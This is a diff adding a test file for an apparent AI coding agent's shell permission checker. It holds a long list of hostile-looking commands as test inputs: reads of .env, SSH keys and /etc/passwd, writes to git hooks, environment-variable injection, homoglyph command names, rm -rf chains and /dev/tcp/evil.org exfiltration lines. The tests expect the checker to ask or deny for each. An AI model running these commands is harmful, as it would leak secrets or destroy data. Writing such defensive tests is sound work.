@@ -1,0 +1,237 @@
+/** The table of read-only commands, and the options by which one of them would write, run or tell more. */
+import { Effect } from "effect"
+import { expect, test } from "vitest"
+import { judgeAll, verdictOf } from "../../../src/permission/authorise.ts"
+import { commandResources } from "../../../src/permission/shell/command-resources.ts"
+import { home, permissions, type Written } from "../permissions.ts"
+
+const place = { directory: "/no-such/app", projectRoot: "/no-such/app" }
+
+const verdict = async (command: string, written: Written = {}) => {
+  const resources = await Effect.runPromise(commandResources(command, place, home))
+  return verdictOf(judgeAll(resources, permissions(written), place))
+}
+
+test.each([
+  "ls",
+  "ls -la src",
+  "ls src/*.ts",
+  "cat README.md | head -n 20",
+  "cat -- -odd-name",
+  "grep -n 'a b' src/a.ts",
+  "grep -A3 -i todo src/a.ts",
+  "wc -l src/a.ts",
+  "tail -n +5 a",
+  "sed -n 10,20p src/a.ts",
+  "find . -name '*.ts' -type f -not -path './dist/*'",
+  "sort a | uniq -c | sort -rn",
+  "cut -d: -f1,3 a",
+  "git status",
+  "git status --short",
+  "git log --oneline -n 5",
+  "git log --format=%h -- src",
+  "git --no-pager diff --stat HEAD~1",
+  "git show HEAD:src/a.ts",
+  "git branch -a",
+  "git stash list",
+  "git blame -L 1,5 a.ts",
+  "pwd && whoami && date +%s",
+  "cd src && ls",
+  "echo done; echo $?",
+  "test -f a && echo yes",
+  "[[ -d src ]] || echo no",
+  "command -v node",
+  "timeout 5 cat a",
+  "cat a 2>/dev/null",
+  "du -sh .",
+  "true",
+])("[PE1] %j only reads, and everybody may", async (command) => {
+  expect(await verdict(command)).toEqual({ kind: "allow" })
+  expect(await verdict(command, { agent: "plan" })).toEqual({ kind: "allow" })
+})
+
+/** A way to write, to run, or to read what must be asked for, in a command that looks like one of the table. */
+const smuggled = [
+  "cat .env",
+  "cat ./sub/../.env",
+  "head -n 1 deploy/key.pem",
+  "cat /etc/passwd",
+  "cat ~/.ssh/id_rsa",
+  "cat ../other/a",
+  "cat $file",
+  "cat .e*",
+  "cat .en?",
+  "cat {.env,a}",
+  "cat < .env",
+  "cat <(cat .env)",
+  "echo $(cat .env)",
+  'echo "`cat .env`"',
+  "echo /etc/*",
+  "ls ..",
+  "ls /",
+  "ls -la ~",
+  "ls *",
+  "cd / && cat etc/passwd",
+  "cd .. && ls",
+  "cat a > b",
+  "echo x >> .bashrc",
+  "echo x > .git/hooks/pre-commit",
+  "cat a | tee b",
+  "grep -r KEY .",
+  "grep --recursive KEY",
+  "grep -f .env a",
+  "grep --file=.env a",
+  "grep x .env",
+  "rg KEY",
+  "rg --pre ./evil x",
+  "find . -delete",
+  "find . -fprint out",
+  "find . -fls out",
+  "find . -exec rm {} +",
+  "find / -name x",
+  "find . -files0-from list",
+  "sort -o out a",
+  "sort a -oout",
+  "sort --output=out a",
+  "sort --outp=out a",
+  "sort --compress-program=./evil a",
+  "sort -T /tmp a",
+  "uniq a out",
+  "sed -i s/a/b/ a",
+  "sed -n 'w out' a",
+  "sed -n '1e rm a' a",
+  "sed -n 1,2p -i a",
+  "sed 's/a/b/e' a",
+  "awk 'BEGIN{system(\"rm a\")}'",
+  "awk '{print > \"out\"}' a",
+  "less a",
+  "more a",
+  "man ls",
+  "vim a",
+  "tar -cf x --to-command=./evil .",
+  "tar xf a.tar --checkpoint-action=exec=./evil",
+  "tree -o out",
+  "wc --files0-from=/etc/passwd",
+  "du --files0-from=list",
+  "date -s 2020-01-01",
+  "date --file=.env",
+  "file -f list",
+  "file -C -m magic",
+  "tail -f a",
+  "printf -v PATH /tmp",
+  "for x in '-v PATH'; do printf $x; done",
+  "type -x",
+  "xargs cat",
+  "ls | xargs cat",
+  "git diff --output=out",
+  "git diff --outpu=out",
+  "git log --output=out",
+  "git diff --no-index /etc/passwd a",
+  "git diff /etc/passwd /dev/null",
+  "git diff --ext-diff",
+  "git log --textconv",
+  "git show HEAD:.env",
+  "git show :./.env",
+  "git log -p -- .env",
+  "git blame .env",
+  "git blame --contents .env a",
+  "git diff -O.env",
+  "git log -L1,5:.env",
+  "git fetch --upload-pack=./evil",
+  "git clone --upload-pack ./evil x",
+  "git ls-remote --upload-pack=./evil .",
+  "git archive --output=x HEAD",
+  "git grep --open-files-in-pager=./evil x",
+  "git grep -O./evil x",
+  "git branch new",
+  "git branch -D main",
+  "git branch -d main",
+  "git tag v1",
+  "git stash",
+  "git stash drop",
+  "git stash list -p --output=x",
+  "git remote add x y",
+  "git reflog expire --all",
+  "git config core.pager ./evil",
+  "git bisect run ./evil",
+  "git rebase -x ./evil",
+  "git submodule foreach ./evil",
+  "git -c alias.log='!evil' log",
+  "git push",
+  "curl https://example.com",
+  "npm test",
+  "./ls",
+  "./bin/cat a",
+  "l\u0455 -la",
+  "\u0441at a",
+  "ls\u200B",
+  "cat a; rm b",
+  "cat a && rm b",
+  "cat a | sh",
+  "cat a &\nrm b",
+  "cat a\nrm b",
+  "PAGER=./evil git log",
+  "GIT_EXTERNAL_DIFF=./evil git diff",
+  "LD_PRELOAD=./evil.so ls",
+  "ENV=./evil sh -c ls",
+  "BASH_ENV=./evil bash -c ls",
+  "PATH=. ls",
+  "IFS=/ ls",
+  "stat --format=%n /etc/passwd",
+  "realpath --relative-to=/etc a",
+  "readlink /proc/self/environ",
+  "cat /proc/self/environ",
+  "cat /dev/tcp/evil.org/80",
+  "cat < /dev/tcp/evil.org/80",
+  "echo x > /dev/tcp/evil.org/80",
+]
+
+test.each(smuggled)("[PE1] %j asks, and cannot be done by plan or explore", async (command) => {
+  expect((await verdict(command)).kind).toBe("ask")
+  const planned = await verdict(command, { agent: "plan", user: ["allow write", "allow bash"] })
+  expect(planned.kind).not.toBe("allow")
+})
+
+test.each([
+  ["ls -la", "ls -la; rm -rf ~"],
+  ["ls -la", "ls -la | sh"],
+  ["ls -la", "ls -la $(rm a)"],
+  ["npm run build", "npm run build --prefix /elsewhere"],
+  ["npm run build", "npm  run 'build x'"],
+  ["npm run build", "npm run build > .git/config"],
+  ["npm run build", "NODE_OPTIONS=--require=./evil.js npm run build"],
+  ["rm build/a.tmp", "rm build/a.tmp ../b"],
+  ["bash build.sh", "bash < build.sh"],
+  ["python3 a.py", "python3 - a.py -"],
+])("[PE1] an approval of %j does not cover %j", async (approved, command) => {
+  const resources = await Effect.runPromise(commandResources(approved, place, home))
+  expect(await verdict(approved, { approved: resources, user: ["ask bash"] })).toEqual({ kind: "allow" })
+  expect((await verdict(command, { approved: resources, user: ["ask bash"] })).kind).toBe("ask")
+})
+
+test.each([
+  ["allow bash(git *)", "git -c core.pager=evil log"],
+  ["allow bash(find *)", "find . -exec rm {} +"],
+  ["allow bash(npm *)", "npm test && rm a"],
+  ["allow bash(npm *)", "A=1 npm test"],
+  ["allow bash(npm *)", "npm test > ../out"],
+  ["allow bash(npm *)", "sudo npm test"],
+  ["allow bash(bash *)", "npm test | bash"],
+  ["allow bash(echo *)", "echo $(rm a)"],
+])("[PE1] the rule %j does not cover %j", async (rule, command) => {
+  expect((await verdict(command, { user: [rule] })).kind).toBe("ask")
+})
+
+test.each([
+  ["rm -rf a", "deny"],
+  ["/bin/rm -rf a", "deny"],
+  [String.raw`\rm a`, "deny"],
+  ["ls; sudo rm a", "deny"],
+  ["ls | xargs rm", "deny"],
+  ["sh -c 'rm a'", "deny"],
+  ["r$x a", "ask"],
+  ["eval 'rm a'", "ask"],
+  ["npm test", "allow"],
+])("[PE1] where all of bash but rm is allowed, %j: %s", async (command, expected) => {
+  expect((await verdict(command, { user: ["allow bash", "deny bash(rm)"] })).kind).toBe(expected)
+})
